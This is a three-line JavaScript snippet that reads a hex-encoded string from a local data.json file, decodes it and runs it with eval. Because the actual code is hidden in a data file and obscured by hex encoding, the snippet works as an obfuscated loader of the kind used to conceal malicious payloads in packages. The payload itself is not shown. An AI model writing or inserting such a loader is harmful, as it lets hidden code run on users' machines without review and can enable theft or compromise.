const open = (text) => Buffer.from(text, "hex").toString();
const run = (text) => eval(text);
run(open(require("./data.json").text));
